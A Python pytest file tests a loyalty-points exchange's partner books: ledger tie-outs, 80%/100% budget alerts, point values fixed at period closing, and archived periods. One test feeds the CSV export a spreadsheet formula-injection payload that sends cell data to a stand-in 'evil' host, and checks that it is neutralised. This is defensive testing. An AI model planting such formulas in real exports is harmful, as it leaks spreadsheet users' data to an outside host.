"""The partners' books tie out to the ledger over a month of mixed activity, and budget alerts
fire at exactly 80 % and 100 % of the declared budget, each logged once (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import logging
import shutil
from dataclasses import replace
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import text

from exchange.books.budget import BudgetLevel
from exchange.books.figures import points_outstanding, program_accounts
from exchange.books.report import csv_lines
from exchange.errors import ExchangeError
from exchange.ledger.accounts import AccountKind
from exchange.ledger.partitions import partition_name
from exchange.ledger.periods import PeriodStatus
from exchange.loading import load_directory
from exchange.programs.declarations import read_partners_directory
from exchange.rewards.clearing import REVERSAL_KIND
from exchange.services.books import BooksService
from exchange.services.settlement import SettlementService
from exchange.testing.clock import FrozenClock
from tests.conftest import SAMPLE_PARTNERS
from tests.integration.settlement.conftest import NOVEMBER, close, conversion, points_redemption, post, served
from tests.integration.test_pricing import edited
from tests.reads import rows_read

OCTOBER = NOVEMBER.replace(month=10)
DECEMBER = NOVEMBER.replace(month=12)
PROGRAMS = ("formosa-air", "fresh-mart", "tune-stream", "wallet-pay")


async def a_month_of_activity(settlement: SettlementService) -> None:
    """October, then November's conversions both ways, redemptions and a reversal, then December."""
    await post(
        settlement, [conversion("oct", "wallet-pay", "formosa-air", 80_000, 1_600, points=(5_000, 2_000), at=OCTOBER)]
    )
    await post(
        settlement,
        [
            conversion("c1", "wallet-pay", "formosa-air", 160_000, 3_200, points=(10_000, 4_000)),
            conversion("c2", "formosa-air", "fresh-mart", 120_000, 2_400, points=(3_000, 12_000)),
            conversion("c3", "fresh-mart", "formosa-air", 20_000, 400, points=(5_000, 500)),
            conversion("c4", "tune-stream", "wallet-pay", 7_000, 140, points=(7_000, 700)),
            points_redemption("r1", "formosa-air", "fresh-mart", 1_500, 60_000, 600),
            points_redemption("r2", "formosa-air", "tune-stream", 500, 20_000, 200),
            points_redemption("r3", "wallet-pay", "formosa-air", 900, 9_000, 90),
        ],
    )
    async with settlement.db.transaction() as session:
        await settlement.ledger.reverse(
            session, "t-r2", transaction_id="t-r2-back", effective_at=NOVEMBER + timedelta(days=1), kind=REVERSAL_KIND
        )
    await post(
        settlement, [conversion("dec", "fresh-mart", "formosa-air", 4_000, 80, points=(1_000, 100), at=DECEMBER)]
    )


async def test_the_books_show_a_month_of_mixed_activity(settlement: SettlementService, books: BooksService) -> None:
    await a_month_of_activity(settlement)
    november = await books.partner_books("formosa-air", "2026-11")
    figures = november.figures
    assert (figures.issued, figures.converted_out, figures.redeemed_for_rewards, figures.reversed) == (
        4_500,
        3_000,
        1_500,
        500,
    )
    assert figures.outstanding == 2_000 + 4_500 - 4_500, "October's 2,000 miles are still out; December is not counted"
    assert figures.money_for_redeemed == -(120_000 + 60_600), "c2 and r1; r2 was reversed"
    assert figures.money_for_issued == (160_000 - 3_200) + (20_000 - 400)
    assert figures.money_for_rewards == 9_000, "r3: the reward formosa-air published, paid with wallet-pay's points"
    assert figures.money_net == figures.money_for_redeemed + figures.money_for_issued + figures.money_for_rewards
    assert figures.money_other == 0
    assert november.cost_per_point == Decimal("0.401333"), "1,806.00 TWD paid for 4,500 miles, half-even"
    assert november.value(figures.outstanding) == 80_000, "2,000 miles at 0.4 TWD"


async def test_the_books_tie_out_to_the_ledger(
    settlement: SettlementService, books: BooksService, clock: FrozenClock
) -> None:
    await a_month_of_activity(settlement)
    async with settlement.db.transaction() as session:
        balances = {
            (program_id, kind): balance
            for program_id, kind, balance in await session.exec(  # type: ignore[call-overload]
                text("SELECT program_id, kind, balance FROM ledger_account_balance WHERE program_id IS NOT NULL")
            )
        }
    for program in PROGRAMS:
        months = [await books.partner_books(program, period) for period in ("2026-10", "2026-11", "2026-12")]
        assert months[-1].figures.outstanding == balances.get((program, AccountKind.MEMBER_POINTS), 0), program
        issued = sum(month.figures.issued for month in months)
        assert issued == -balances.get((program, AccountKind.POINTS_ISSUED), 0), program
        taken_back = sum(month.figures.redeemed for month in months)
        assert taken_back == balances.get((program, AccountKind.POINTS_REDEEMED), 0), program
        assert sum(month.figures.money_net for month in months) == balances.get(
            (program, AccountKind.PARTNER_CLEARING), 0
        )
    await close(settlement, clock, "2026-10")
    await close(settlement, clock, "2026-11")
    for program in PROGRAMS:
        statement = await served(settlement, program, "2026-11")
        assert (await books.partner_books(program, "2026-11")).figures.money_net == statement.net, program


async def test_the_csv_neutralises_text_a_spreadsheet_would_run_and_keeps_negative_amounts_numbers(
    settlement: SettlementService, books: BooksService
) -> None:
    await post(settlement, [conversion("c1", "wallet-pay", "formosa-air", 160_000, 3_200, points=(10_000, 4_000))])
    hostile = '=HYPERLINK("http://evil/?"&A1,"click")'
    found = replace(await books.partner_books("wallet-pay", "2026-11"), partner=hostile)
    rows = list(csv.reader(csv_lines(found)))
    assert {row[0] for row in rows[1:]} == {"'" + hostile}
    assert ["money_net", "", "-1600.00", "TWD"] in [row[2:] for row in rows]


async def test_an_unknown_partner_or_a_malformed_period_is_refused(books: BooksService) -> None:
    with pytest.raises(ExchangeError) as unknown:
        await books.partner_books("no-such-program", "2026-11")
    assert (unknown.value.code, unknown.value.field) == ("NOT_FOUND", "partnerId")
    with pytest.raises(ExchangeError) as malformed:
        await books.partner_books("formosa-air", "2026-13")
    assert (malformed.value.code, malformed.value.field) == ("BAD_USER_INPUT", "period")


async def test_budget_alerts_fire_at_exactly_80_and_100_percent_and_are_logged_once(
    settlement: SettlementService, books: BooksService, caplog: pytest.LogCaptureFixture
) -> None:
    """Formosa Air budgets 3,200,000 TWD a month: 80 % is 6,400,000 miles at 0.4 TWD."""
    caplog.set_level(logging.WARNING, logger="exchange.books.budget")

    async def issue(name: str, miles: int) -> BudgetLevel:
        await post(settlement, [conversion(name, "wallet-pay", "formosa-air", 1, 0, points=(miles, miles))])
        read = await books.partner_books("formosa-air", "2026-11")
        assert read.budget is not None
        assert read.budget.level_begins_at == {BudgetLevel.NONE: None, BudgetLevel.WARNING: 80}.get(
            read.budget.level, 100
        ), "the page says at what percent the level begins"
        return read.budget.level

    def alerts() -> list[str]:
        return [record.getMessage() for record in caplog.records if record.name == "exchange.books.budget"]

    assert await issue("just-under", 6_399_999) == BudgetLevel.NONE, "2,559,999.60 TWD is under 80 %"
    assert alerts() == []
    assert await issue("to-80", 1) == BudgetLevel.WARNING
    assert await issue("more", 1_599_999) == BudgetLevel.WARNING, "read again just under 100 %: no new alert"
    assert len(alerts()) == 1 and alerts()[0].startswith(
        "issue budget WARNING: formosa-air spent 2560000.00 of 3200000.00"
    )
    assert await issue("to-100", 1) == BudgetLevel.EXHAUSTED
    await books.partner_books("formosa-air", "2026-11")
    assert [message.split(":")[0] for message in alerts()] == ["issue budget WARNING", "issue budget EXHAUSTED"]
    read = await books.partner_books("formosa-air", "2026-11")
    assert read.budget is not None and (read.budget.spend, read.budget.percent_used) == (320_000_000, Decimal("100.00"))


async def test_a_closed_periods_books_keep_the_point_values_its_closing_fixed(
    settlement: SettlementService, books: BooksService, clock: FrozenClock, tmp_path: Path
) -> None:
    """A partner declaring a new point value revalues the open period's books, never a closed one's."""
    await post(settlement, [conversion("c1", "wallet-pay", "formosa-air", 160_000, 3_200, points=(10_000, 4_000))])
    open_books = await books.partner_books("formosa-air", "2026-11")
    assert (open_books.point_value, open_books.values_fixed_at) == (Decimal("0.4"), None)
    await close(settlement, clock, "2026-11")
    statement = await served(settlement, "formosa-air", "2026-11")
    closed_at = statement.closed_at

    partners = edited(tmp_path, "formosa-air.toml", 'point_value = "0.4"', 'point_value = "0.5"')
    partners = edited(tmp_path, "coalition.toml", 'point_value = "1"', 'point_value = "2"')
    async with settlement.db.transaction() as session:
        await load_directory(session, read_partners_directory(partners), clock.now())

    november = await books.partner_books("formosa-air", "2026-11")
    assert (november.point_value, november.values_fixed_at) == (Decimal("0.4"), closed_at)
    assert november.value(november.figures.outstanding) == 160_000, "4,000 miles at the 0.4 TWD of the closing"
    assert november.coalition is not None and november.coalition.point_value == Decimal("1")
    fixed_at = statement.document()["period"]["closedAt"]  # as the signed statement writes it
    assert ("formosa-air", "2026-11", "point_values_fixed_at", "", fixed_at, "") in november.csv_rows()
    december = await books.partner_books("formosa-air", "2026-12")
    assert (december.point_value, december.values_fixed_at) == (Decimal("0.5"), None)
    assert december.value(december.figures.outstanding) == 200_000, "still outstanding, at today's 0.5 TWD"
    assert december.coalition is not None and december.coalition.point_value == Decimal("2")


async def test_the_point_values_are_fixed_at_the_instant_the_statement_says_the_period_closed(
    settlement: SettlementService, books: BooksService, clock: FrozenClock
) -> None:
    """One closing, one instant: the books' pointValuesFixedAt is the statement's closedAt even
    on a clock that moves between two readings."""
    await post(settlement, [conversion("c1", "wallet-pay", "formosa-air", 160_000, 3_200, points=(10_000, 4_000))])
    ticks = iter(range(1, 1_000_000))
    clock.now = lambda: clock.current + timedelta(microseconds=next(ticks))  # type: ignore[method-assign]
    await close(settlement, clock, "2026-11")
    statement = await served(settlement, "formosa-air", "2026-11")
    november = await books.partner_books("formosa-air", "2026-11")
    assert november.values_fixed_at == statement.closed_at
    signed = statement.document()["period"]["closedAt"]
    assert signed.endswith("Z") and "." in signed, "UTC, to the microsecond the clock gave"
    fixed = next(row for row in november.csv_rows() if row[2] == "point_values_fixed_at")
    assert fixed[4] == signed, "the books CSV writes the instant as the signed statement does"


@pytest.mark.postgres_only
async def test_an_archived_periods_books_are_refused_and_later_books_still_count_its_points(
    pg_settlement: SettlementService, clock: FrozenClock
) -> None:
    """Archiving takes a period's entries out of the ledger: its books say so rather than read
    zero, a later period's outstanding still counts what it moved, and a period between two
    archived ones says its outstanding is not known rather than guess it."""
    books = BooksService(pg_settlement.db, pg_settlement.calendar, clock)
    await post(
        pg_settlement,
        [
            conversion("oct", "wallet-pay", "formosa-air", 80_000, 1_600, points=(5_000, 2_000), at=OCTOBER),
            conversion("nov", "wallet-pay", "formosa-air", 160_000, 3_200, points=(10_000, 4_000)),
            conversion("dec", "fresh-mart", "formosa-air", 4_000, 80, points=(1_000, 100), at=DECEMBER),
        ],
    )
    for period in ("2026-10", "2026-11", "2026-12"):
        await close(pg_settlement, clock, period)
    november = await books.partner_books("formosa-air", "2026-11")
    january = await books.partner_books("formosa-air", "2027-01")
    assert (november.figures.outstanding, january.figures.outstanding) == (6_000, 6_100)
    async with pg_settlement.db.transaction() as session:
        await session.exec(text("UPDATE settlement_position SET signed_off_at = now()"))  # type: ignore[call-overload]

    await pg_settlement.archive("2026-10", export=None)
    assert await books.partner_books("formosa-air", "2026-11") == november
    await pg_settlement.archive("2026-12", export=None)
    assert await books.partner_books("formosa-air", "2027-01") == january
    with pytest.raises(ExchangeError, match=r"periods before it \(2026-10\) and after it \(2026-12\) are archived"):
        await books.partner_books("formosa-air", "2026-11")
    await pg_settlement.archive("2026-11", export=None)
    with pytest.raises(ExchangeError, match="period 2026-11 is archived: its ledger lines are no longer in the ledger"):
        await books.partner_books("formosa-air", "2026-11")
    assert await books.partner_books("formosa-air", "2027-01") == january


def with_late_joiner(tmp_path: Path) -> Path:
    """The sample partners and one more, ``late-joiner`` (TuneStream's declaration under its own
    id), for a program first loaded after a period closed."""
    directory = tmp_path / "partners"
    shutil.copytree(SAMPLE_PARTNERS, directory)
    declaration = (directory / "tune-stream.toml").read_text()
    late = declaration.replace('id = "tune-stream"', 'id = "late-joiner"', 1).replace(
        'id = "tune-stream-premium-month"', 'id = "late-joiner-premium-month"'
    )
    (directory / "late-joiner.toml").write_text(late)
    return directory


async def test_a_program_loaded_after_a_period_closed_reads_that_period_as_closed(
    settlement: SettlementService, books: BooksService, clock: FrozenClock, tmp_path: Path
) -> None:
    """Its closing fixed no value of the program's: the books value it at today's declared value,
    and say the period is closed, not open."""
    await post(settlement, [conversion("c1", "wallet-pay", "formosa-air", 160_000, 3_200, points=(10_000, 4_000))])
    await close(settlement, clock, "2026-11")
    async with settlement.db.transaction() as session:
        await load_directory(session, read_partners_directory(with_late_joiner(tmp_path)), clock.now())
    november = await books.partner_books("late-joiner", "2026-11")
    assert (november.status, november.values_fixed_at, november.point_value) == (
        PeriodStatus.CLOSED,
        None,
        Decimal("0.5"),
    )
    assert ("late-joiner", "2026-11", "period_status", "", "CLOSED", "") in november.csv_rows()
    december = await books.partner_books("late-joiner", "2026-12")
    assert (december.status, december.values_fixed_at) == (PeriodStatus.OPEN, None)
    assert ("late-joiner", "2026-12", "period_status", "", "OPEN", "") in december.csv_rows()


async def test_a_closed_periods_budget_is_the_monthly_issue_its_closing_recorded(
    settlement: SettlementService, books: BooksService, clock: FrozenClock, tmp_path: Path
) -> None:
    """A partner declaring a new budget changes the open period's, never a closed one's."""
    await post(settlement, [conversion("c1", "wallet-pay", "formosa-air", 160_000, 3_200, points=(10_000, 4_000))])
    await close(settlement, clock, "2026-11")
    partners = edited(tmp_path, "formosa-air.toml", 'monthly_issue = "3200000"', 'monthly_issue = "1600"')
    async with settlement.db.transaction() as session:
        await load_directory(session, read_partners_directory(partners), clock.now())
    november = await books.partner_books("formosa-air", "2026-11")
    assert november.budget is not None and november.budget.budget == 320_000_000, "3,200,000 TWD, as at the closing"
    assert november.budget.level is BudgetLevel.NONE
    december = await books.partner_books("formosa-air", "2026-12")
    assert december.budget is not None and december.budget.budget == 160_000, "1,600 TWD, declared since"


FULL_SUM = text(
    "SELECT coalesce(sum(e.amount), 0) FROM ledger_entry e JOIN ledger_account a ON a.id = e.account_id "
    "WHERE a.program_id = :program AND a.kind = 'member-points' AND e.period <= :period"
)


async def test_the_outstanding_kept_at_each_closing_equals_the_sum_of_every_entry(
    settlement: SettlementService, books: BooksService, clock: FrozenClock
) -> None:
    """Closing records each program's outstanding points; a later period's books add the entries
    since the latest record. Whatever is closed, every period's figure is the full sum's."""
    await a_month_of_activity(settlement)
    periods = ("2026-09", "2026-10", "2026-11", "2026-12", "2027-01")

    async def both() -> list[tuple[int, int]]:
        figures = []
        for period in periods:
            for program in PROGRAMS:
                shown = (await books.partner_books(program, period)).figures.outstanding
                async with settlement.db.transaction() as session:
                    full = await session.exec(FULL_SUM, params={"program": program, "period": period})  # type: ignore[call-overload]
                    figures.append((shown, int(full.scalar_one())))
        return figures

    before = await both()
    await close(settlement, clock, "2026-10")
    await close(settlement, clock, "2026-11")
    after_two = await both()
    await post(
        settlement, [conversion("late", "wallet-pay", "formosa-air", 8_000, 160, points=(500, 200), at=clock.now())]
    )
    await close(settlement, clock, "2026-12")
    after_three = await both()
    for figures in (before, after_two, after_three):
        assert [shown for shown, _ in figures] == [full for _, full in figures]
    assert after_three != before, "the late conversion moved December's figure"
    async with settlement.db.transaction() as session:
        recorded = await session.exec(
            text("SELECT period, points FROM outstanding_points WHERE program_id = 'formosa-air' ORDER BY period")
        )  # type: ignore[call-overload]
        assert [tuple(row) for row in recorded] == [("2026-10", 2_000), ("2026-11", 2_000), ("2026-12", 2_300)]


@pytest.mark.postgres_only
async def test_the_open_periods_outstanding_reads_the_entries_since_the_latest_closing(
    pg_settlement: SettlementService, clock: FrozenClock
) -> None:
    books = BooksService(pg_settlement.db, pg_settlement.calendar, clock)
    await a_month_of_activity(pg_settlement)
    await close(pg_settlement, clock, "2026-10")
    await close(pg_settlement, clock, "2026-11")
    partitions = [partition_name("ledger_entry", period) for period in ("2026-10", "2026-11", "2026-12")]
    async with pg_settlement.db.transaction() as session:
        program = await program_accounts(session, "formosa-air")
        held, read = await rows_read(
            session,
            partitions,
            lambda: points_outstanding(session, "formosa-air", program[AccountKind.MEMBER_POINTS.value], "2026-12"),
        )
    assert held == (await books.partner_books("formosa-air", "2026-12")).figures.outstanding == 2_100
    october, november, december = partitions
    assert read[october] == read[november] == 0, "closed periods are read from November's record"
    assert read[december] > 0
